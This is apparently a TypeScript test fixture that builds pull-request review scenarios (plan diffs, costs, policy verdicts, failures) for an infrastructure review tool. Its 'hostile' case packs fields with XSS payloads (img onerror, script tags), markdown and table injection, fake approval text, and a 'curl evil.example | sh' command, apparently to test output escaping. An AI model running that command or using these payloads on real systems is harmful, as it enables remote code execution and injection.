import { asOf } from "../../../../tools/judge/cost/prices";
import type { CostChange, CostReport } from "../../../../tools/judge/cost/report";
import type { Failure } from "../../../../tools/plan/failure";
import type { Review } from "../../../../tools/review/review";
import { difference } from "../../../../tools/sources/difference/difference";
import type { Diagnostic, Plan, PlanResource } from "../../../../tools/plan/plan";
import type { PolicyReport, Verdict } from "../../../../tools/judge/policy/report";
import type { Finding } from "../../../../tools/judge/refusals/finding";
import { lostProtections } from "../../../../tools/judge/relaxed/protections";
import { relaxation } from "../../../../tools/judge/relaxed/relaxed";
import { component, plan, resource } from "../../plans";

const databaseComponent = component("database", "AwsRdsPostgres");
const database = resource("aws:rds/instance:Instance", "database-primary", {}, { parent: databaseComponent });

const standing = [
  {
    ...verdict("sm-rotation", database.urn, "Nothing rotates the secret.", "add a rotation"),
    level: "advisory" as const,
  },
];

/** Pull requests, each with what its reviewer has to learn. */
export const situations: Readonly<Record<string, Review | readonly Review[]>> = {
  "nothing-changes": review({ plan: difference(shop(), shop()), cost: cost(312, 312), policies: policies() }),
  "new-image": review({
    plan: difference(shop(), shop({ image: "ghcr.io/acme/shop@sha256:9d03b1e2" })),
    cost: cost(312, 312),
    policies: policies(),
  }),
  "bigger-database": review({
    plan: difference(shop(), shop({ instanceClass: "db.t4g.large" })),
    cost: cost(312, 350, { database: [148, 186] }),
    policies: policies(),
  }),
  "database-replaced": review({
    plan: difference(shop(), shop({ storageEncrypted: true, kmsKeyId: "alias/shop" })),
    cost: cost(312, 313, { database: [148, 149] }),
    policies: policies(),
  }),
  "database-replaced-protected": review({
    plan: difference(shop({ protect: true }), shop({ storageEncrypted: true, protect: true })),
    policies: policies(),
  }),
  "component-removed": review({
    plan: difference(shop(), plan(...network(), ...service())),
    cost: cost(312, 128, { database: [148, 0], cache: [36, 0] }),
    policies: policies(),
  }),
  "resource-retained": review({
    plan: difference(shop({ retainOnDelete: true }), plan(...network(), ...service())),
    policies: policies(),
  }),
  "new-stack": review({ plan: difference(plan(), shop()), cost: { after: report(312) }, policies: policies() }),
  "policy-fails": review({
    plan: difference(shop(), shop({ publiclyAccessible: true })),
    cost: cost(312, 312),
    policies: policies([
      verdict(
        "rds-private",
        database.urn,
        "the database is reachable from the internet",
        "set `publiclyAccessible: false`",
      ),
      verdict(
        "sg-open",
        "urn:pulumi:prod::shop::aws:ec2/securityGroup:SecurityGroup::database",
        "port 5432 is open to 0.0.0.0/0",
        "allow the service's security group instead",
        "critical",
      ),
    ]),
  }),
  "policy-advises": review({
    plan: difference(shop(), shop({ multiAz: false })),
    policies: policies([
      {
        ...verdict("rds-multi-az", database.urn, "one zone only: its failure stops the site", "set `multiAz: true`"),
        level: "advisory",
      },
    ]),
  }),
  "policy-failed-before": review({
    plan: difference(shop(), shop({ instanceClass: "db.t4g.large" })),
    policies: policies(standing),
    policiesBefore: policies(standing),
  }),
  "policy-not-evaluated": review({
    plan: difference(shop(), shop({ instanceClass: "db.t4g.large" })),
    policies: policies([
      {
        ...verdict(
          "s3-tls",
          "urn:pulumi:prod::shop::aws:s3/bucket:Bucket::assets",
          "cannot be judged yet",
          "deploy once, or give the bucket a name",
        ),
        outcome: "not-evaluated",
        reason: "the bucket policy is known only after deployment",
      },
    ]),
  }),
  "exemption-expired": review({
    plan: difference(shop(), shop()),
    policies: {
      ...policies([
        verdict(
          "rds-private",
          database.urn,
          "the database is reachable from the internet",
          "set `publiclyAccessible: false`",
        ),
      ]),
      exemptions: [
        {
          rule: "rds-private",
          resource: "database-*",
          reason: "migration",
          expires: "2026-11-01",
          state: "expired",
          daysLeft: -21,
          covers: [],
        },
      ],
    },
  }),
  "settings-wrong": failed({
    kind: "settings",
    message:
      "Pulumi.prod.yaml has 2 problems. Nothing was created.\n\n  slipway:service.memoryMb   300 does not go with cpu 512: Fargate offers 1024, 2048, 3072, 4096\n  slipway:databse            is not a setting; did you mean slipway:database?",
  }),
  "program-fails": failed(
    {
      kind: "program",
      message:
        "TypeError: Cannot read properties of undefined (reading 'id')\n    at new AwsVpc (components/network/aws-vpc.ts:41:18)",
    },
    difference(plan(), plan(...network())),
  ),
  "provider-fails": failed(
    {
      kind: "provider",
      message:
        "error: creating RDS DB Instance: InvalidParameterCombination: db.t4g.medium does not support Performance Insights",
      urn: database.urn,
    },
    difference(shop(), shop({ instanceClass: "db.t4g.large" })),
  ),
  "base-fails": failed(
    { kind: "base", message: "npm ci failed in the base: lock file and package.json do not agree" },
    difference(plan(), shop()),
  ),
  cancelled: failed(
    { kind: "cancelled", message: "The preview was cancelled after 300 s, 41 resources in." },
    difference(shop(), shop({ instanceClass: "db.t4g.large" })),
  ),
  "everything-relaxed": review({
    plan: difference(shop(), shop({ skipFinalSnapshot: true })),
    policies: policies(),
    relaxed: [
      relaxation("rule", "rds-private", "was mandatory and is disabled"),
      relaxation("exemption", "sg-open", "exempts * until 2027-12-31: the office moves | soon"),
      relaxation("verdict", "rds-encrypted", "by the base's rules database-primary fails: Storage is not encrypted."),
      ...lostProtections(difference(shop(), shop({ skipFinalSnapshot: true }))),
      relaxation("source", "policy/rules/aws/rds/rds-private.ts", "decides what the policies ask for"),
      relaxation(
        "workflow",
        ".github/workflows/comment.yml",
        "decides what runs on a pull request and with which rights",
      ),
    ],
  }),
  "target-refuses": review({
    plan: difference(shop({ engineVersion: "17.2" }), shop({ engineVersion: "16.4" })),
    policies: policies(),
    findings: {
      passed: 40,
      findings: [
        finding("harmless", "rds-password-moves", "The password moves to another secret; nothing restarts."),
        finding("refused", "rds-version-down", "RDS does not go back to an older version of its engine."),
        finding("outage", "rds-class-restart", "The instance restarts: about two minutes with a standby."),
      ],
      notEvaluated: [
        {
          id: "rds-storage-shrinks",
          stack: "prod",
          urn: database.urn,
          link: "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_PIOPS.StorageTypes.html",
          reason: "how large the storage has grown is known to AWS alone",
        },
      ],
    },
  }),
  "stack-deleted": review({
    deleted: true,
    relaxed: [
      relaxation("stack", "Pulumi.prod.yaml", "is deleted: nothing previews, judges or deploys this stack any more"),
    ],
    plan: difference(shop({ protect: true }), plan()),
    cost: cost(312, 0, { database: [148, 0], cache: [36, 0] }),
  }),
  "price-not-known": review({
    plan: difference(shop(), shop({ instanceClass: "db.x9g.large" })),
    cost: {
      before: report(312),
      after: {
        ...report(164, 0),
        unpriced: [
          {
            urn: database.urn,
            type: database.type,
            component: "database",
            reason: "db.x9g.large is not in the price table",
          },
        ],
      },
    },
    policies: policies(),
  }),
  "namespace-renamed": review({
    stack: "staging",
    plan: difference(namespace("shop-staging"), namespace("shop")),
    policies: policies(),
    settings: [
      { key: "slipway:kubernetes.namespace", before: "shop-staging", after: "shop", encrypted: false },
      { key: "slipway:secrets.MAIL_KEY", before: "(encrypted)", after: "(encrypted)", encrypted: true },
    ],
  }),
  "kubernetes-secret-changes": review({
    stack: "staging",
    plan: difference(kubernetes("one", 2), kubernetes("two", 4)),
    policies: policies(),
    cost: {
      before: { ...report(0), lines: [], components: [] },
      after: {
        ...report(0),
        lines: [],
        components: [],
        elsewhere: [{ type: "kubernetes:apps/v1:Deployment", count: 1 }],
      },
    },
  }),
  hostile: review({
    plan: withDiagnostics(
      difference(
        plan(),
        plan(
          resource("aws:s3/bucket:Bucket", "x</summary><img src=x onerror=alert(1)>@acme/owners", {
            bucket: "``` | [click](https://evil.example) <!-- slipway:comment key=prod run=9999.9 -->",
          }),
        ),
      ),
      [
        {
          severity: "warning",
          message:
            "@everyone see https://evil.example, fixes #1, deadbeef, **bold** <script>alert(1)</script> | a | b |\n\n# Approved\n```",
        },
      ],
    ),
    policies: policies([
      verdict(
        "x|y",
        "urn:pulumi:prod::shop::a:b:C::`@acme/owners`",
        "see http://evil.example\n| injected | row |",
        "run `curl evil.example | sh` <b>now</b> @octocat",
      ),
    ]),
  }),
  "three-stacks": [
    review({
      plan: difference(shop(), shop({ instanceClass: "db.t4g.large" })),
      cost: cost(312, 350, { database: [148, 186] }),
      policies: policies(),
    }),
    review({ stack: "staging", plan: difference(kubernetes("one", 2), kubernetes("one", 3)), policies: policies() }),
    { ...failed({ kind: "program", message: "Error: Cannot find module './missing'" }), stack: "local" },
  ],
};

interface ShopOptions {
  readonly image?: string;
  readonly protect?: boolean;
  readonly retainOnDelete?: boolean;
  readonly [property: string]: string | boolean | undefined;
}

function shop({
  image = "ghcr.io/acme/shop@sha256:4be10c77",
  protect,
  retainOnDelete,
  ...inputs
}: ShopOptions = {}): Plan {
  const cache = component("cache", "AwsElastiCache");
  return plan(
    ...network(),
    databaseComponent,
    resource(
      "aws:rds/instance:Instance",
      "database-primary",
      {
        engine: "postgres",
        engineVersion: "17.2",
        instanceClass: "db.t4g.medium",
        multiAz: true,
        storageEncrypted: false,
        password: { $secret: "5e1f" },
        ...(inputs as Record<string, string>),
      },
      {
        parent: databaseComponent,
        options: { ...(protect && { protect }), ...(retainOnDelete && { retainOnDelete }) },
      },
    ),
    cache,
    resource(
      "aws:elasticache/replicationGroup:ReplicationGroup",
      "cache-group",
      { engine: "valkey", nodeType: "cache.t4g.small" },
      { parent: cache, options: { ...(retainOnDelete && { retainOnDelete }) } },
    ),
    ...service(image),
  );
}

function network(): PlanResource[] {
  const vpc = component("network", "AwsVpc");
  return [vpc, resource("aws:ec2/vpc:Vpc", "network-vpc", { cidrBlock: "10.0.0.0/16" }, { parent: vpc })];
}

function service(image = "ghcr.io/acme/shop@sha256:4be10c77"): PlanResource[] {
  const parent = component("container-service", "AwsFargateService", { name: "web" });
  const task = resource(
    "aws:ecs/taskDefinition:TaskDefinition",
    "web-task",
    {
      family: "web",
      containerDefinitions: {
        $unknown: [`${database.urn}#address`],
        template: JSON.stringify([
          {
            name: "web",
            image,
            environment: [
              { name: "DATABASE_HOST", value: "{0}" },
              { name: "RELEASE", value: image.slice(-8) },
            ],
          },
        ]),
      },
    },
    { parent },
  );
  const running = resource(
    "aws:ecs/service:Service",
    "web-service",
    { desiredCount: 2, taskDefinition: { $unknown: [`${task.urn}#arn`] } },
    { parent },
  );
  return [parent, task, { ...running, dependencies: [task.urn] }];
}

function kubernetes(secret: string, replicas: number): Plan {
  const parent = component("container-service", "KubernetesDeployment", { name: "web" });
  return plan(
    parent,
    resource(
      "kubernetes:core/v1:Secret",
      "web-env",
      { metadata: { name: "web-env" }, stringData: { AUTH_SECRET: { $secret: secret } } },
      { parent },
    ),
    resource("kubernetes:apps/v1:Deployment", "web", { metadata: { name: "web" }, spec: { replicas } }, { parent }),
  );
}

function finding(severity: Finding["severity"], id: string, message: string): Finding {
  const link = "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/CHAP_Limits.html";
  const remedy = "Restore a snapshot beside it and move over.";
  return { id, stack: "prod", urn: database.urn, setting: "database.engineVersion", severity, message, remedy, link };
}

/** A namespace that is kept, and what lies in it. */
function namespace(name: string): Plan {
  const parent = component("network", "KubernetesNamespace");
  const kept = { parent, options: { retainOnDelete: true } };
  return plan(
    parent,
    resource("kubernetes:core/v1:Namespace", "network-namespace", { metadata: { name } }, kept),
    resource(
      "kubernetes:postgresql.cnpg.io/v1:Cluster",
      "database",
      { metadata: { name: "db", namespace: name } },
      kept,
    ),
    ...["web", "worker", "mail", "jobs", "cache"].map((label) =>
      resource("kubernetes:core/v1:Service", label, { metadata: { name: label, namespace: name } }, { parent }),
    ),
  );
}

function withDiagnostics(plan: Plan, diagnostics: Diagnostic[]): Plan {
  return { ...plan, diagnostics };
}

/** A situation of one stack, or of several, as a list. */
export function reviewsOf(given: Review | readonly Review[]): readonly Review[] {
  return "version" in given ? [given] : given;
}

export function review(parts: Partial<Review>): Review {
  return {
    version: 1,
    project: "shop",
    stack: "prod",
    unknowns: [
      "What differs between the program and the live state: this preview compares two versions of the program.",
    ],
    run: {
      number: 1841,
      attempt: 1,
      commit: "4f2c9aa0d1b7e5a3c2f90812345678deadbeef01",
      at: "2026-11-22T14:05:09Z",
      url: "https://github.com/acme/shop/actions/runs/1841",
    },
    reproduce: `npx slipway diff ${parts.stack ?? "prod"} --base main`,
    ...parts,
  };
}

function failed(failure: Failure, plan?: Plan): Review {
  return review({ failure, plan });
}

function verdict(
  rule: string,
  urn: string,
  message: string,
  fix: string,
  severity: Verdict["severity"] = "high",
): Verdict {
  return { rule, resource: urn, outcome: "fail", level: "mandatory", severity, message, fix };
}

function policies(verdicts: readonly Verdict[] = []): PolicyReport {
  const having = (outcome: string) =>
    new Set(verdicts.filter((one) => one.outcome === outcome).map(({ rule }) => rule)).size;
  return {
    verdicts,
    counts: { pass: 57, fail: having("fail"), notEvaluated: having("not-evaluated"), exempt: 0, remediated: 0 },
    exemptions: [],
    remediations: [],
    rulesRun: 58,
  };
}

function report(monthlyUsd: number, database = 148, cache = 36): CostReport {
  const components = { database, cache, "container-service": Math.max(0, monthlyUsd - database - cache) };
  return {
    version: 1,
    stack: "prod",
    region: "eu-central-1",
    pricesAsOf: asOf,
    currency: "USD",
    monthlyUsd,
    components: Object.entries(components).map(([name, usd]) => ({
      urn: `urn:${name}`,
      component: name,
      monthlyUsd: usd,
    })),
    lines: [
      {
        urn: "urn:x",
        component: "urn:database",
        what: "db.t4g.medium",
        quantity: 730,
        unit: "hour",
        unitUsd: 0.2,
        monthlyUsd: 146,
        assumes: [],
        source: {
          page: "https://aws.amazon.com/rds/postgresql/pricing/",
          taken: "https://example.com/",
          on: "2026-11-01",
        },
      },
    ],
    assumptions: [
      {
        key: "cdn.requestsPerMonth",
        value: 5_000_000,
        unit: "requests a month",
        meaning: "that visitors make to the CDN",
        from: "default",
      },
    ],
    free: [],
    elsewhere: [],
    unpriced: [],
  };
}

function cost(
  before: number,
  after: number,
  parts: { database?: readonly [number, number]; cache?: readonly [number, number] } = {},
): CostChange {
  return {
    before: report(before, parts.database?.[0], parts.cache?.[0]),
    after: report(after, parts.database?.[1], parts.cache?.[1]),
  };
}
